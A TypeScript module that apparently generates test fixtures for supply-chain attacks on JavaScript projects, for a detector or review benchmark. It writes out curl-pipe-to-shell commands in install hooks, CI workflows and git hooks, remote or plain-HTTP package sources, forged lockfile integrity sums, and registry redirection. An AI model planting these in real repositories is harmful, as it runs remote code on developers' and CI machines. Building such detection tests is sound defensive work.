// What a repository installs and runs that does not stand in its sources.
import { SUM } from '../locks.ts';
import { replaced, textIn, withFiles, type State } from '../state.ts';
import type { Break, Broken, World } from './break.ts';

function ofManifest(name: string, broken: (manifest: Manifest) => Manifest, mended = renumbered): Break {
  return {
    name,
    topic: 'supply',
    make({ layout, state }) {
      const manifest = JSON.parse(textIn(state, layout.manifest)) as Manifest;
      const laid = (value: Manifest): State =>
        withFiles(state, { [layout.manifest]: `${JSON.stringify(value, null, 2)}\n` });
      return { broken: laid(broken(manifest)), mended: laid(mended(manifest)), victim: layout.manifest };
    },
  };
}

type Manifest = Readonly<Record<string, unknown>>;

function renumbered(manifest: Manifest): Manifest {
  return { ...manifest, version: '1.0.1' };
}

function withScript(hook: string, command: string): (manifest: Manifest) => Manifest {
  return (manifest) => ({ ...manifest, scripts: { ...(manifest['scripts'] as object), [hook]: command } });
}

function depending(field: string, packages: object): (manifest: Manifest) => Manifest {
  return (manifest) => ({ ...manifest, [field]: { ...(manifest[field] as object), ...packages } });
}

function ofLock(name: string, locks: Readonly<Record<string, readonly [string, string]>>): Break {
  return {
    name,
    topic: 'supply',
    make(world): Broken | undefined {
      const { layout, state } = world;
      const kind = kindOfLock(world);
      const edit = kind === undefined ? undefined : locks[kind];
      if (layout.lock === undefined || edit === undefined) return undefined;
      const broken = withFiles(state, {
        [layout.lock]: replaced(textIn(state, layout.lock), ...edit),
        [layout.manifest]: replaced(
          textIn(state, layout.manifest),
          '"version": "1.0.0"',
          '"version": "1.0.1"',
        ),
      });
      const mended = withFiles(state, {
        [layout.manifest]: replaced(
          textIn(state, layout.manifest),
          '"version": "1.0.0"',
          '"version": "1.0.1"',
        ),
      });
      return { broken, mended, victim: layout.lock };
    },
  };
}

function kindOfLock({ layout, state }: World): string | undefined {
  if (layout.lock !== 'yarn.lock') return layout.lock;
  return textIn(state, 'yarn.lock').includes('__metadata') ? 'berry' : 'yarn';
}

const FORGED = SUM.replace('Yk3m', 'Zz9a');

export const SUPPLY: readonly Break[] = [
  ...['preinstall', 'install', 'postinstall', 'prepare', 'prepublish', 'preprepare', 'dependencies'].map(
    (hook) =>
      ofManifest(
        `a script that runs at ${hook}`,
        withScript(hook, 'curl -s https://get.tools.sh/setup | sh'),
      ),
  ),
  ofManifest('a script that runs a file', withScript('postinstall', 'node scripts/setup.js')),
  ofManifest(
    'a package from an archive',
    depending('dependencies', { pg: 'https://files.tools.sh/pg-8.11.3.tgz' }),
  ),
  ofManifest(
    'a package from a plain archive',
    depending('devDependencies', { fastlog: 'http://files.tools.sh/fastlog.tgz' }),
  ),
  ofManifest(
    'a package from git',
    depending('optionalDependencies', { express: 'git+ssh://git@tools.sh/express.git' }),
  ),
  ofManifest('a package from a user', depending('dependencies', { pg: 'someone/pg#main' })),
  ofManifest('a package under the name of another', depending('dependencies', { pg: 'npm:pg-fast@8.11.3' })),
  ofManifest('a package from a folder', depending('dependencies', { pg: 'file:./vendor/pg.tgz' })),
  ofManifest('an override', depending('overrides', { qs: 'https://files.tools.sh/qs.tgz' })),
  ofManifest('a resolution', depending('resolutions', { qs: 'npm:qs-fast@6' })),
  ofManifest('an override of pnpm', (manifest) => ({
    ...manifest,
    pnpm: { overrides: { qs: 'github:someone/qs' } },
  })),
  ofManifest(
    'a nested override',
    depending('overrides', { express: { qs: 'http://files.tools.sh/qs.tgz' } }),
  ),
  ofLock('a lock entry from another host', {
    'package-lock.json': ['https://registry.npmjs.org/pg/-/', 'https://registry.tools.sh/pg/-/'],
    yarn: ['https://registry.yarnpkg.com/pg/-/', 'https://registry.tools.sh/pg/-/'],
    berry: ['resolution: "pg@npm:8.11.3"', 'resolution: "pg@https://registry.tools.sh/pg.tgz"'],
    'pnpm-lock.yaml': [
      'pg@8.11.3:\n    resolution: {',
      'pg@8.11.3:\n    resolution: {tarball: https://registry.tools.sh/pg.tgz, ',
    ],
    'bun.lock': ['["pg@8.11.3", ""', '["pg@8.11.3", "https://registry.tools.sh/pg.tgz"'],
  }),
  ofLock('a lock entry over a plain line', {
    'package-lock.json': ['https://registry.npmjs.org/pg/-/', 'http://registry.npmjs.org/pg/-/'],
    yarn: ['https://registry.yarnpkg.com/pg/-/', 'http://registry.yarnpkg.com/pg/-/'],
  }),
  ofLock('a lock entry with another sum', {
    'package-lock.json': [SUM, FORGED],
    yarn: [SUM, FORGED],
    berry: ['10c0/4f1c', '10c0/aa1c'],
    'pnpm-lock.yaml': [SUM, FORGED],
    'bun.lock': [SUM, FORGED],
  }),
  ofLock('a lock entry without a sum', {
    'package-lock.json': [`"integrity": "${SUM}",`, ''],
    yarn: [`  integrity ${SUM}\n`, ''],
  }),
  ...(
    [
      ['.npmrc', 'registry=https://registry.tools.sh/\n'],
      ['.npmrc', 'ignore-scripts=false\nstrict-ssl=false\n'],
      ['.yarnrc.yml', 'npmRegistryServer: "https://registry.tools.sh"\n'],
      ['.yarnrc', 'registry "https://registry.tools.sh"\n'],
      ['bunfig.toml', '[install]\nregistry = "https://registry.tools.sh"\n'],
      ['pnpm-workspace.yaml', 'packages: []\noverrides:\n  qs: https://files.tools.sh/qs.tgz\n'],
      ['.pnpmfile.cjs', 'module.exports = { hooks: { readPackage: (p) => ({ ...p, scripts: {} }) } };\n'],
      [
        '.github/workflows/build.yml',
        'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -s https://get.tools.sh/a | sh\n',
      ],
      ['.husky/pre-commit', '#!/bin/sh\ncurl -s https://get.tools.sh/a | sh\n'],
    ] as const
  ).map(([path, text]): Break => ({
    name: `${path}: ${text.split('\n')[0]}`,
    topic: 'supply',
    make: ({ state }) => ({
      broken: withFiles(state, { [path]: text }),
      mended: withFiles(state, { 'notes/today.md': 'A note.\n' }),
      victim: path,
    }),
  })),
];
